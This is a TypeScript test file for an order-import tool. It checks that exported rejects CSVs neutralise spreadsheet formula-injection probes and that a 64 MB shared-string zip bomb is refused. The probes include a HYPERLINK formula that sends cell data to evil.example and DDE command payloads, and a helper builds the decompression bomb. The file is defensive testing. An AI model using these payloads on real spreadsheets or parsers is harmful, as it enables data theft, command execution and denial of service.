/**
 * Finding 10 of issue 19: the files shipby writes never carry a live formula, and a workbook whose shared strings
 * expand far past its size is refused before any parser reads it.
 */
import fs from 'node:fs';
import path from 'node:path';
import zlib from 'node:zlib';
import { parse } from 'csv-parse/sync';
import ExcelJS from 'exceljs';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { AppContext } from '../../src/app/context';
import { importOrderFile } from '../../src/app/import-orders';
import { importStockFile } from '../../src/app/import-stock';
import { readCarrierFile } from '../../src/integrations/files/carrier-file';
import { checkXlsxBounds, XlsxBoundsError } from '../../src/integrations/files/xlsx-bounds';
import type { Store } from '../../src/store/database';
import { backends, contextFor, manualClock, tempDir } from '../support/backends';
import { orderRow, writeCsv } from '../support/files';

const PROBES = [
  '=HYPERLINK("http://evil.example/?"&A1,"open")',
  "+cmd|' /C calc'!A0",
  '@SUM(1+1)*cmd|x',
  '-2+3+cmd|x',
  '\t=1+1',
  '\r=1+1',
];

/** A stored zip (one local header per entry, central directory, end record), entries deflated. */
function zipOf(entries: Array<{ name: string; data: Buffer | (() => Buffer) }>): Buffer {
  const locals: Buffer[] = [];
  const centrals: Buffer[] = [];
  let offset = 0;
  for (const entry of entries) {
    const raw = typeof entry.data === 'function' ? entry.data() : entry.data;
    const packed = zlib.deflateRawSync(raw, { level: 9 });
    const name = Buffer.from(entry.name);
    const local = Buffer.alloc(30);
    local.writeUInt32LE(0x04034b50, 0);
    local.writeUInt16LE(20, 4);
    local.writeUInt16LE(8, 8);
    local.writeUInt32LE(zlib.crc32(raw), 14);
    local.writeUInt32LE(packed.length, 18);
    local.writeUInt32LE(raw.length, 22);
    local.writeUInt16LE(name.length, 26);
    const central = Buffer.alloc(46);
    central.writeUInt32LE(0x02014b50, 0);
    central.writeUInt16LE(20, 4);
    central.writeUInt16LE(20, 6);
    central.writeUInt16LE(8, 10);
    central.writeUInt32LE(zlib.crc32(raw), 16);
    central.writeUInt32LE(packed.length, 20);
    central.writeUInt32LE(raw.length, 24);
    central.writeUInt16LE(name.length, 28);
    central.writeUInt32LE(offset, 42);
    locals.push(local, name, packed);
    centrals.push(central, name);
    offset += 30 + name.length + packed.length;
  }
  const cd = Buffer.concat(centrals);
  const end = Buffer.alloc(22);
  end.writeUInt32LE(0x06054b50, 0);
  end.writeUInt16LE(entries.length, 8);
  end.writeUInt16LE(entries.length, 10);
  end.writeUInt32LE(cd.length, 12);
  end.writeUInt32LE(offset, 16);
  return Buffer.concat([...locals, cd, end]);
}

/** The probe's workbook: small on disk, its shared strings 64 MB of `<si>` once inflated. */
function sharedStringBomb(file: string): number {
  const one = Buffer.from('<si><t>a</t></si>');
  const body = Buffer.concat([
    Buffer.from('<?xml version="1.0"?><sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'),
    Buffer.alloc(64 * 1024 * 1024 - 200, 0).fill(one),
    Buffer.from('</sst>'),
  ]);
  const zip = zipOf([
    {
      name: '[Content_Types].xml',
      data: Buffer.from(
        '<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"/>',
      ),
    },
    { name: 'xl/workbook.xml', data: Buffer.from('<workbook/>') },
    {
      name: 'xl/worksheets/sheet1.xml',
      data: Buffer.from('<worksheet><sheetData><row r="1"><c r="A1" t="s"><v>0</v></c></row></sheetData></worksheet>'),
    },
    { name: 'xl/sharedStrings.xml', data: body },
  ]);
  fs.writeFileSync(file, zip);
  return zip.length;
}

describe.each(backends)('file safety on $name', (backend) => {
  let store: Store;
  let dispose: () => Promise<void>;
  let ctx: AppContext;
  const dir = tempDir();
  beforeAll(async () => {
    ({ store, dispose } = await backend.open());
    ctx = contextFor(store, manualClock());
  });
  afterAll(async () => {
    await dispose();
    fs.rmSync(dir, { recursive: true, force: true });
  });

  it('the rejects CSV carries formula-leading cells as text, and re-importing it reads them back unchanged', async () => {
    const rows = PROBES.map((probe, i) =>
      orderRow(`F${i}`, 'SKU-A', { buyer_name: probe, city: probe, quantity: 'x' }),
    );
    const file = writeCsv(dir, 'formulas.csv', rows);
    const rejects = path.join(dir, 'formulas.rejects.csv');
    const report = await importOrderFile(ctx, { shopId: 'shop-a', file, skipInvalid: true, rejectsFile: rejects });
    expect(report.rejectedRows).toBe(PROBES.length);
    const written: Array<Record<string, string>> = parse(fs.readFileSync(rejects), { columns: true });
    expect(written.map((r) => r.buyer_name)).toEqual(PROBES.map((p) => `'${p}`));
    for (const cell of written.flatMap((r) => Object.values(r)))
      expect(/^[=+@\t\r]|^-(?!\d+(\.\d*)?$)/.test(cell)).toBe(false);
    // The seller fixes the quantity in the rejects file and imports it again: the names come back as written.
    const fixed = written.map((r) => ({
      ...Object.fromEntries(
        Object.entries(r).filter(([k]) => !['row', 'field', 'reason', 'reason_zh', 'record'].includes(k)),
      ),
      quantity: '1',
    }));
    const again = writeCsv(dir, 'formulas-fixed.csv', fixed);
    const second = await importOrderFile(ctx, { shopId: 'shop-a', file: again });
    expect(second).toMatchObject({ committed: true, created: PROBES.length });
    const names = (
      await store.db
        .selectFrom('orders')
        .select(['platform_order_id', 'buyer_name'])
        .where('platform_order_id', 'like', 'F%')
        .orderBy('platform_order_id')
        .execute()
    ).map((o) => o.buyer_name);
    expect(names).toEqual(PROBES.map((p) => p.trim())); // the importer trims cells; nothing else changed
  });

  it('the stock rejects CSV escapes them too', async () => {
    const csv = path.join(dir, 'stock.csv');
    fs.writeFileSync(
      csv,
      ['sku,warehouse,on_hand', ...PROBES.map((p) => `"${p.replace(/"/g, '""')}",W1,-1`)].join('\n'),
    );
    const rejects = path.join(dir, 'stock.rejects.csv');
    await importStockFile(ctx, { file: csv, skipInvalid: true, rejectsFile: rejects });
    const written: Array<Record<string, string>> = parse(fs.readFileSync(rejects), {
      columns: true,
      relax_column_count: true,
    });
    expect(written.map((r) => r.sku)).toEqual(PROBES.map((p) => `'${p}`));
  });

  it('a 64 MB shared-string bomb is refused before parsing, naming the file, with nothing imported', async () => {
    const file = path.join(dir, 'bomb.xlsx');
    const size = sharedStringBomb(file);
    expect(size).toBeLessThan(400 * 1024);
    const before = process.memoryUsage().heapUsed;
    const report = await importOrderFile(ctx, { shopId: 'shop-bomb', file });
    expect(report.committed).toBe(false);
    expect(report.issues[0]).toMatchObject({ field: 'file' });
    expect(report.issues[0]!.message.en).toMatch(/shared text.*nothing was imported.*\.csv/);
    expect(report.issues[0]!.message['zh-CN']).toMatch(/共享文本/);
    expect(process.memoryUsage().heapUsed - before).toBeLessThan(32 * 1024 * 1024);
    expect(await store.db.selectFrom('orders').select('id').where('shop_id', '=', 'shop-bomb').execute()).toEqual([]);
    const stock = await importStockFile(ctx, { file });
    expect(stock.issues[0]).toMatchObject({ field: 'file' });
    const carrier = await readCarrierFile(file);
    expect(carrier.issues[0]).toMatchObject({ field: 'file' });
  });
});

describe('xlsx bounds', () => {
  it('measures real inflated bytes and string counts, and passes an ordinary workbook', async () => {
    const dir = tempDir();
    const file = path.join(dir, 'ok.xlsx');
    const workbook = new ExcelJS.Workbook();
    const sheet = workbook.addWorksheet('orders');
    for (let i = 0; i < 500; i++) sheet.addRow([`text ${i}`, i]);
    await workbook.xlsx.writeFile(file);
    await expect(checkXlsxBounds(file)).resolves.toBeUndefined();
    const tight = { maxUncompressedBytes: 1024 ** 3, maxSharedStringBytes: 1024 ** 3, maxSharedStrings: 499 };
    await expect(checkXlsxBounds(file, tight)).rejects.toBeInstanceOf(XlsxBoundsError);
    await expect(checkXlsxBounds(file, { ...tight, maxSharedStrings: 500 })).resolves.toBeUndefined();
    await expect(checkXlsxBounds(file, { ...tight, maxUncompressedBytes: 1000 })).rejects.toThrow(/unpacks to/);
    fs.rmSync(dir, { recursive: true, force: true });
  });
});
